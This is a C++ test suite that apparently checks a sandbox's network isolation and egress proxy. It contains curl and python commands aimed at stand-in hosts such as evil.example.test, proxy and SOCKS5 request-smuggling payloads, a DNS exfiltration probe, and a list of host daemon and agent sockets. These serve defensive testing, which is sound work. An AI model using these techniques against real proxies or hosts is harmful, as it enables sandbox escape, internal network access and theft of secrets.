#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <thread>

#include "tests/escape/escape_fixture.h"

// Attacks on the way out.

using namespace escrow::sandbox;
using namespace escrow::sandbox::testing;

namespace {

Violation egress(const std::string& target) {
  return {ViolationKind::egress, target};
}

/// A TCP listener of the host on 127.0.0.1.
class HostListener {
 public:
  HostListener() : fd_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(bind(fd_, reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(listen(fd_, 8) == 0);
    getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &size);
    port_ = ntohs(address.sin_port);
  }
  ~HostListener() {
    shutdown(fd_, SHUT_RDWR);
    if (server_.joinable()) server_.join();
    close(fd_);
  }
  HostListener(const HostListener&) = delete;
  HostListener& operator=(const HostListener&) = delete;

  /// Answers every connection with an HTTP response.
  void serve(const std::string& body) {
    server_ = std::thread([this, body] {
      for (int client; (client = accept(fd_, nullptr, nullptr)) >= 0; close(client)) {
        char request[4096];
        const ssize_t got = read(client, request, sizeof request);
        if (got <= 0) continue;
        received_.append(request, static_cast<std::size_t>(got));
        const std::string reply =
            "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
            body;
        (void)!write(client, reply.data(), reply.size());
      }
    });
  }
  int port() const { return port_; }

  /// All that anybody sent. Ends the listening.
  std::string received() {
    shutdown(fd_, SHUT_RDWR);
    if (server_.joinable()) server_.join();
    return received_;
  }

 private:
  int fd_, port_ = 0;
  std::string received_;
  std::thread server_;
};

/// A UDP socket of the host on 127.0.0.1.
class HostDatagrams {
 public:
  HostDatagrams() : fd_(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(bind(fd_.get(), reinterpret_cast<sockaddr*>(&address), size) == 0);
    getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&address), &size);
    port_ = ntohs(address.sin_port);
  }
  bool heard() const {
    char byte = 0;
    return recv(fd_.get(), &byte, 1, 0) == 1;
  }
  int port() const { return port_; }

 private:
  UniqueFd fd_;
  int port_ = 0;
};

/// A listening socket of the host: at a path, or abstract if the name begins with a zero byte.
class HostSocket {
 public:
  explicit HostSocket(std::string name) : name_(std::move(name)), fd_(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    name_.copy(address.sun_path, sizeof address.sun_path - 1);
    const bool abstract = name_.front() == '\0';
    const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name_.size() + (abstract ? 0 : 1));
    REQUIRE(bind(fd_.get(), reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(listen(fd_.get(), 8) == 0);
  }
  ~HostSocket() {
    if (name_.front() != '\0') unlink(name_.c_str());
  }
  HostSocket(const HostSocket&) = delete;
  HostSocket& operator=(const HostSocket&) = delete;
  const std::string& name() const { return name_; }

 private:
  std::string name_;
  UniqueFd fd_;
};

/// A path in the host's /tmp that only this test uses.
std::string host_temporary(const std::string& name) {
  return "/tmp/" + name + "-" + std::to_string(getpid());
}

}  // namespace

TEST_CASE("no packet leaves: there is no way to anywhere") {
  check_attacks({
      {"a way by TCP", "tcp=192.0.2.1:80", "ENETUNREACH", Control::harmful, "it would send a packet"},
      {"a way by UDP", "udp-route=192.0.2.1:53", "ENETUNREACH"},
      {"a resolver of the world, asked directly", "udp-send=192.0.2.1:53", "ENETUNREACH", Control::harmful,
       "it would send a packet"},
      {"a way by IPv6", "udp-route=2001:db8::1:443", "ENETUNREACH|EADDRNOTAVAIL"},
      {"the metadata service of a cloud", "tcp=169.254.169.254:80", "ENETUNREACH", Control::harmful,
       "it would send a packet"},
      {"another machine of the local network", "udp-route=192.168.0.1:445", "ENETUNREACH"},
      {"a multicast group of the local network", "udp-route=224.0.0.251:5353", "ENETUNREACH"},
  });
}

TEST_CASE("the host's loopback is not the sandbox's") {
  AttackedCage cage;
  HostListener listener;
  const std::string port = std::to_string(listener.port());
  check_attack(cage, {"a server of the host by IPv4", "tcp=127.0.0.1:" + port, "ECONNREFUSED"});
  check_attack(cage, {"a server of the host by IPv6", "tcp=::ffff:127.0.0.1:" + port, "ECONNREFUSED|ENETUNREACH"});
  check_attack(cage, {"a server of the host by the address of everything", "tcp=0.0.0.0:" + port, "ECONNREFUSED"});
  const HostDatagrams datagrams;
  const std::string attack = "udp-send=127.0.0.1:" + std::to_string(datagrams.port());
  cage.attack_one(attack);
  CHECK_FALSE(datagrams.heard());
  run_bare({attacker_program().string(), attack});
  CHECK(datagrams.heard());
}

TEST_CASE("sockets of odd families and protocols are refused, and an upper half of the number does not help") {
  check_attacks({
      {"the hypervisor by vsock", "vsock", "EAFNOSUPPORT"},
      {"raw packets", "packet", "EAFNOSUPPORT", Control::namespaces},
      {"the kernel's ciphers", "alg", "EAFNOSUPPORT"},
      {"packets past the stack", "xdp", "EAFNOSUPPORT", Control::namespaces},
      {"Bluetooth", "bluetooth", "EAFNOSUPPORT"},
      {"TIPC", "tipc", "EAFNOSUPPORT"},
      {"RDS", "rds", "EAFNOSUPPORT"},
      {"the CAN bus", "can", "EAFNOSUPPORT"},
      {"the kernel's audit", "netlink-audit", "EAFNOSUPPORT"},
      {"the kernel's packet filter", "netlink-netfilter", "EAFNOSUPPORT"},
      {"news of devices", "netlink-uevent", "EAFNOSUPPORT"},
      {"vsock, with high bits in the family", "family-with-high-bits", "EAFNOSUPPORT"},
      {"raw IPv4", "raw-icmp", "EPERM", Control::namespaces},
      {"raw IPv6", "raw-icmp6", "EPERM", Control::namespaces},
      {"DCCP", "dccp", "EPROTONOSUPPORT|ESOCKTNOSUPPORT"},
      {"SCTP", "sctp", "EPROTONOSUPPORT"},
      {"SCTP over IPv6", "sctp6", "EPROTONOSUPPORT"},
      {"L2TP", "l2tp", "EPROTONOSUPPORT"},
      {"several paths for one TCP connection", "mptcp", "EPROTONOSUPPORT"},
  });
  AttackedCage cage;
  CHECK(cage.attack_one("netlink-route") == "ok");
}

TEST_CASE("the sandbox's network cannot be reconfigured") {
  check_attacks({
      {"another address", "add-address", "EPERM", Control::namespaces},
      {"listening to everything on an interface", "promiscuous", "EPERM", Control::namespaces},
      {"an interface of its own", "make-tunnel", "ENOENT", Control::namespaces},
  });
}

TEST_CASE("the host's sockets cannot be reached, neither by path nor abstract") {
  AttackedCage cage;
  const HostSocket by_path((cage.tree.outside() / "socket").string()), in_tmp(host_temporary("escrow-test-agent")),
      abstract(std::string(1, '\0') + "escrow-test-" + std::to_string(getpid()));
  check_attack(cage, {"a socket by path", "unix-path=" + by_path.name(), "ENOENT"});
  check_attack(
      cage, {"a socket by path through the root of a process", "unix-path=/proc/self/root" + by_path.name(), "ENOENT"});
  check_attack(cage, {"a socket in /tmp, as X11 and agents have them", "unix-path=" + in_tmp.name(), "ENOENT"});
  check_attack(cage, {"an abstract socket", "unix-abstract=" + abstract.name().substr(1), "ECONNREFUSED|EPERM"});
  fs::create_symlink(by_path.name(), cage.tree.workspace() / "link");
  check_attack(cage, {"a socket by a symlink in the workspace",
                      "unix-path=" + (cage.tree.workspace() / "link").string(), "ENOENT"});
}

TEST_CASE("a socket of the host that lies in the workspace cannot be reached") {
  AttackedCage cage;
  const HostSocket socket((cage.tree.workspace() / "s").string());
  check_attack(cage, {"a socket in the workspace", "unix-path=" + socket.name(), "ECONNREFUSED|ENOENT|EACCES"});
}

TEST_CASE("the sockets of daemons and agents are not there") {
  std::vector<Attack> table;
  for (const char* path :
       {"/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
        "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify",
        "/run/snapd.socket", "/run/user/0/bus", "/run/user/1000/bus", "/run/user/1000/gnupg/S.gpg-agent",
        "/run/user/1000/keyring/ssh", "/tmp/.X11-unix/X0"})
    table.push_back({path, std::string("unix-path=") + path, "ENOENT", Control::harmful, "the daemon is the host's"});
  check_attacks(table);
  if (geteuid() != 0) return skipped("control of: sockets in /run", "needs root, to make one there");
  AttackedCage cage;
  const HostSocket socket("/run/escrow-test-" + std::to_string(getpid()) + ".sock");
  check_attack(cage, {"a socket in /run", "unix-path=" + socket.name(), "ENOENT"});
}

TEST_CASE("the names of agents and buses do not reach the guest") {
  const std::vector<std::string> names = {
      "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "GPG_AGENT_INFO", "XDG_RUNTIME_DIR",
      "DISPLAY",       "WAYLAND_DISPLAY",          "XAUTHORITY"};
  std::map<std::string, std::string> before;
  for (const std::string& name : names) {
    if (const char* value = std::getenv(name.c_str())) before[name] = value;
    setenv(name.c_str(), canary().c_str(), 1);
  }
  Cage cage;
  CHECK(text(cage.sh("env").out).find(canary()) == std::string::npos);
  for (const std::string& name : names) {
    unsetenv(name.c_str());
    if (before.contains(name)) setenv(name.c_str(), before[name].c_str(), 1);
  }
}

TEST_CASE("a refused host is named, with its port, whatever asked for it") {
  Cage cage;
  const Execution execution = cage.sh(
      "curl -sS -m 5 https://one.example.test/x; curl -sS -m 5 http://two.example.test:8080/; curl -sS -m 5 "
      "http://192.0.2.7/;"
      "python3 -c \"import urllib.request; urllib.request.urlopen('https://three.example.test/')\"; curl --noproxy '*' "
      "-sS -m 5 https://four.example.test/");
  CHECK(execution.violations == std::vector<Violation>{egress("one.example.test:443"), egress("two.example.test:8080"),
                                                       egress("192.0.2.7:80"), egress("three.example.test:443"),
                                                       egress("four.example.test")});
}

TEST_CASE("an allowed host is reached through the proxy, another one is not") {
  Cage cage;
  HostListener listener;
  listener.serve("hello");
  const std::string port = std::to_string(listener.port());
  cage.profile.network_allow = {"localhost.example.test:1", "127.0.0.1:" + port};
  cage.options.private_egress = true;
  const Execution execution = cage.sh("curl --noproxy '' -sS -m 5 http://127.0.0.1:" + port +
                                      "/x; curl -sS -m 5 -o /dev/null -w '%{http_code}' http://other.example.test/");
  CHECK(text(execution.out) == "hello403");
  CHECK(execution.violations == std::vector<Violation>{egress("other.example.test:80")});
}

TEST_CASE("an allowed host of a private address is refused: the proxy does not lead into the person's own network") {
  Cage cage;
  HostListener listener;
  listener.serve("hello");
  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
  cage.profile.network_allow = {target, "localhost:" + std::to_string(listener.port())};
  const Execution execution =
      cage.sh("curl --noproxy '' -sS -m 5 http://" + target +
              "/; curl --noproxy '' -sS -m 5 http://localhost:" + std::to_string(listener.port()) + "/");
  CHECK(text(execution.out).find("hello") == std::string::npos);
  CHECK(text(execution.out).find("not a public address") != std::string::npos);
}

TEST_CASE("an allowed host is no way to smuggle a request for another") {
  Cage cage;
  HostListener listener;
  listener.serve("hello");
  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
  cage.profile.network_allow = {target};
  cage.options.private_egress = true;
  const auto ask = [&](const std::string& request) {
    return text(cage.sh("printf '" + request +
                        "' | python3 -c \"import socket,sys; s=socket.create_connection(('127.0.0.1',3128)); "
                        "s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).decode())\"")
                    .out);
  };
  CHECK(ask("GET http://" + target + "/ HTTP/1.1\\r\\nHost: " + target + "\\r\\n\\r\\n").find("200 OK") !=
        std::string::npos);
  for (const std::string& request :
       {"GET http://" + target + "/ HTTP/1.1\\r\\nHost: evil.example.test\\r\\n\\r\\n",
        "GET http://evil@" + target + "/ HTTP/1.1\\r\\n\\r\\n",
        "CONNECT evil.example.test\\000." + target + " HTTP/1.1\\r\\n\\r\\n",
        "CONNECT 2130706433:" + std::to_string(listener.port()) + " HTTP/1.1\\r\\n\\r\\n",
        "POST http://" + target + "/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"}) {
    INFO(request);
    CHECK(ask(request).find("403 Forbidden") != std::string::npos);
  }
}

TEST_CASE("an allowed host is reached by SOCKS5 too, and by nothing else that SOCKS can say") {
  Cage cage;
  HostListener listener;
  listener.serve("hello");
  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
  cage.profile.network_allow = {target};
  cage.options.private_egress = true;
  const Execution execution = cage.sh(
      "curl --noproxy '' -sS -m 5 --socks5-hostname 127.0.0.1:3128 http://" + target +
      "/; curl --noproxy '' -m 5 --socks5-hostname 127.0.0.1:3128 http://evil.example.test/ 2>/dev/null; echo $?");
  CHECK(text(execution.out) == "hello97\n");
  CHECK(execution.violations == std::vector<Violation>{egress("evil.example.test:80")});
  const auto ask = [&](const std::string& request) {
    return text(cage.sh("python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3128)); s.settimeout(5); "
                        "s.sendall(b'\\x05\\x01\\x00'); s.recv(2); s.sendall(" +
                        request + "); print(s.recv(10)[1])\"")
                    .out);
  };
  const std::string port = "(" + std::to_string(listener.port()) + ").to_bytes(2,'big')";
  CHECK(ask("b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port) == "0\n");
  for (const auto& [name, request] : std::vector<std::pair<const char*, std::string>>{
           {"another host behind a zero byte", "b'\\x05\\x01\\x00\\x03\\x12evil.test\\x00127.0.0.1'[:23]+" + port},
           {"a number for a name", "b'\\x05\\x01\\x00\\x03\\x0a2130706433'+" + port},
           {"a trailing dot", "b'\\x05\\x01\\x00\\x03\\x0a127.0.0.1.'+" + port},
           {"user information", "b'\\x05\\x01\\x00\\x03\\x0cx@127.0.0.1y'+" + port},
           {"waiting for a connection from outside", "b'\\x05\\x02\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port},
           {"an association for UDP", "b'\\x05\\x03\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port},
           {"IPv6 that is IPv4 in disguise",
            "b'\\x05\\x01\\x00\\x04'+bytes(10)+b'\\xff\\xff\\x7f\\x00\\x00\\x01'+" + port},
           {"another port", "b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01\\x00\\x16'"},
       }) {
    INFO(name);
    const std::string answer = ask(request);
    CHECK((answer == "1\n" || answer == "2\n"));
  }
}

TEST_CASE("a tunnel to an allowed host is no way to speak TLS with another") {
  const auto hello = [](const std::string& name, const std::string& rest) {
    // The listener speaks no TLS: what it received is what counts.
    return "python3 -c \"import socket,ssl\nc=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=0\n"
           "s=socket.create_connection(('127.0.0.1',3128)); s.sendall(b'CONNECT " +
           rest +
           " HTTP/1.1\\r\\n\\r\\n'); "
           "s.recv(4096)\ntry: c.wrap_socket(s, server_hostname=" +
           name + ")\nexcept Exception: pass\n\"";
  };
  struct Row {
    const char* what;
    std::string name;
    bool passes;
    std::vector<Violation> violations;
  };
  for (const Row& row :
       std::vector<Row>{{"another host", "'evil.example.test'", false, {egress("evil.example.test")}},
                        {"another host that is allowed", "'good.example.test'", true, {}},
                        {"a sub-domain of it", "'x.good.example.test'", false, {egress("x.good.example.test")}},
                        {"none, the target being an address", "None", true, {}}}) {
    INFO(row.what);
    Cage cage;
    HostListener listener;
    listener.serve("");
    const std::string port = std::to_string(listener.port());
    cage.profile.network_allow = {"127.0.0.1:" + port, "good.example.test:" + port};
    cage.options.private_egress = true;
    const Execution execution = cage.sh(hello(row.name, "127.0.0.1:" + port));
    INFO(text(execution.err));
    CHECK(listener.received().starts_with("\x16\x03") == row.passes);
    std::vector<Violation> expected = row.violations;
    for (Violation& violation : expected) violation.detail += ":" + port;
    CHECK(execution.violations == expected);
  }
}

TEST_CASE("requests that never end, and that are too long, are given up") {
  Cage cage;
  HostListener listener;
  listener.serve("");
  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
  cage.profile.network_allow = {target};
  cage.options.private_egress = true;
  for (const std::string& send :
       {std::string("b'GET http://" + target + "/ HTTP/1.1\\r\\nX: ' + b'a'*40000"),
        std::string("b'CONNECT " + target +
                    " HTTP/1.1\\r\\n\\r\\n'); s.recv(99); "
                    "s.sendall(b'\\x16\\x03\\x01\\x40\\x00\\x01\\xff\\xff\\xff'+bytes(20000)")}) {
    INFO(send);
    CHECK(text(cage.sh("python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3128)); s.settimeout(30)\n"
                       "try: s.sendall(" +
                       send + "); print(len(s.recv(4096)))\nexcept ConnectionError: print(0)\n\"")
                   .out) == "0\n");
  }
  CHECK(listener.received().empty());
}

TEST_CASE("a program that takes a command for a proxy has one, to allowed hosts only") {
  Cage cage;
  HostListener listener;
  listener.serve("by tunnel");
  const std::string port = std::to_string(listener.port());
  cage.profile.network_allow = {"127.0.0.1:" + port};
  cage.options.private_egress = true;
  const Execution execution =
      cage.sh("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | /run/escrow/runner --connect 127.0.0.1 " + port +
              " | tail -1; echo; /run/escrow/runner --connect evil.example.test 22; "
              "ssh -V 2>/dev/null && GIT_TERMINAL_PROMPT=0 git ls-remote ssh://t@other.example.test/x 2>&1 | grep -c "
              "'other.example.test:22 is not among'");
  CHECK(text(execution.out).starts_with("by tunnel\n"));
  CHECK(execution.violations.front() == egress("evil.example.test:22"));
  if (cage.sh("ssh -V").exit_code != 0) return skipped("git over ssh", "ssh is not on this machine");
  CHECK(text(execution.out) == "by tunnel\n1\n");
  CHECK(execution.violations ==
        std::vector<Violation>{egress("evil.example.test:22"), egress("other.example.test:22")});
}

TEST_CASE("the proxy is no way back to itself, and names that are not allowed leave nothing behind") {
  Cage cage;
  cage.profile.network_allow = {"127.0.0.1:3128", "good.example.test"};
  const Execution execution = cage.sh(
      "curl --noproxy '' -sS -m 5 -o /dev/null -w '%{http_code} ' http://127.0.0.1:3128/; "
      "getent hosts secret-data.evil.example.test; curl --noproxy '*' -sS -m 3 https://127.64.0.9/ 2>/dev/null; echo "
      "$?");
  CHECK(text(execution.out).starts_with("403 "));
  CHECK(text(execution.out).find("127.64") == std::string::npos);
  CHECK(std::find(execution.violations.begin(), execution.violations.end(), egress("secret-data.evil.example.test")) !=
        execution.violations.end());
}
